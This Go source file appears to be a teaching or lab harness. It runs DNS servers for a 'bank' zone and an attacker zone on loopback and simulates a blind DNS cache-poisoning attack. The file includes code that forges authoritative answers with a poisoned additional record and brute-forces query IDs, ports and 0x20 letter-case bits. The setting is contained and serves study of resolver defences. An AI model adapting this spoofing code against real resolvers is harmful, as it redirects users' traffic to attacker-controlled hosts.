package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"sync"
	"time"

	"github.com/zocalo-go/zocalo/dnsx"
)

// The zones of the honest server. That of the attacker is his own, and honest
// too but for the bailiwick attack.
const (
	bankZone = `$ORIGIN bank.test.
$TTL 3600
@	IN SOA	ns hostmaster 1 7200 3600 1209600 300
@	IN NS	ns
ns	IN A	127.0.0.1
www	IN A	192.0.2.80
*	IN A	192.0.2.81
`
	evilZone = `$ORIGIN evil.test.
$TTL 3600
@	IN SOA	ns hostmaster 1 7200 3600 1209600 300
@	IN NS	ns
ns	IN A	127.0.0.1
*	IN A	203.0.113.1
`
)

const (
	target   = "www.bank.test."
	honestIP = "192.0.2.80"
	evilIP   = "203.0.113.66"
)

// A field is where the attacks take place: the name server of the bank and of
// the attacker on loopback.
//
// An attacker writes whatever source address he likes on his packets. That
// takes rights which a program of a course has not, so he is lent the server's own
// socket for it. He does not get to see what comes in there.
type field struct {
	addr netip.AddrPort
	pc   net.PacketConn

	mu      sync.Mutex
	onQuery func(q dnsx.Exchange, query, answer []byte) [][]byte

	cancel context.CancelFunc
	done   chan error
}

// newField starts the server.
func newField(ctx context.Context) (*field, error) {
	server := &dnsx.Server{}
	for _, text := range []string{bankZone, evilZone} {
		zone, err := dnsx.ParseZone(strings.NewReader(text), "", "")
		if err != nil {
			return nil, err
		}
		server.Zones = append(server.Zones, zone)
	}
	pc, ln, err := dnsx.Listen(ctx, "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	f := &field{addr: netip.MustParseAddrPort(ln.Addr().String()), pc: pc, done: make(chan error, 1)}
	server.Rewrite = func(_ context.Context, q dnsx.Exchange, query, answer []byte) [][]byte {
		f.mu.Lock()
		hook := f.onQuery
		f.mu.Unlock()
		if hook == nil {
			return [][]byte{answer}
		}
		return hook(q, query, answer)
	}
	ctx, f.cancel = context.WithCancel(ctx)
	go func() { f.done <- server.Serve(ctx, pc, ln) }()
	return f, nil
}

// close stops the server.
func (f *field) close() {
	f.cancel()
	<-f.done
}

// when sets what happens when a query arrives at the server: its result is sent
// back.
func (f *field) when(hook func(q dnsx.Exchange, query, answer []byte) [][]byte) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.onQuery = hook
}

// forged is what the attacker sends: an answer about a name that nobody asked
// for before, so that no cache has it, and beside it the lie. The name is in the
// bank's zone, so that the lie is the server's business.
func forged(name string) ([]byte, error) {
	m := &dnsx.Message{
		Header:     dnsx.Header{Response: true, Authoritative: true},
		Questions:  []dnsx.Question{{Name: name, Type: dnsx.A}},
		Answer:     []dnsx.Record{{Name: name, Type: dnsx.A, TTL: forgedTTL, Data: evilIP}},
		Additional: []dnsx.Record{{Name: target, Type: dnsx.A, TTL: forgedTTL, Data: evilIP}},
	}
	return m.Pack()
}

// A space is what a blind attacker has to guess.
type space struct {
	firstID uint16
	ids     int
	ports   []uint16
	letters int // of the name, 0 if they are not mixed
}

// size is the number of combinations.
func (s space) size() int64 { return int64(s.ids) * int64(len(s.ports)) << s.letters }

// shoot sends guesses number first, first+1 … of the space to a resolver on
// loopback. With room it waits before each until there is room in the
// resolver's sockets, so that what is counted as sent has arrived.
func (f *field) shoot(s space, wire []byte, first int64, guesses int, room chan struct{}) error {
	const header = 12
	for k := range int64(guesses) {
		n := (first + k) % s.size()
		id := s.firstID + uint16(n%int64(s.ids))
		n /= int64(s.ids)
		port := s.ports[n%int64(len(s.ports))]
		mask := n / int64(len(s.ports))
		wire[0], wire[1] = byte(id>>8), byte(id)
		if s.letters > 0 {
			bit := 0
			for i := header; wire[i] != 0; i += 1 + int(wire[i]) {
				for j := i + 1; j <= i+int(wire[i]); j++ {
					if letter := wire[j] | 0x20; 'a' <= letter && letter <= 'z' {
						wire[j] = letter &^ (byte(mask>>bit&1) << 5)
						bit++
					}
				}
			}
		}
		if room != nil {
			select {
			case room <- struct{}{}:
			case <-time.After(patience):
				return errors.New("the resolver does not read")
			}
		}
		to := net.UDPAddrFromAddrPort(netip.AddrPortFrom(f.addr.Addr(), port))
		if _, err := f.pc.WriteTo(wire, to); err != nil && !errors.Is(err, net.ErrClosed) {
			return fmt.Errorf("the attacker cannot send: %w", err)
		}
	}
	return nil
}

// countLetters counts those of a name that can be large or small.
func countLetters(name string) (n int) {
	for _, c := range strings.ToLower(name) {
		if 'a' <= c && c <= 'z' {
			n++
		}
	}
	return n
}
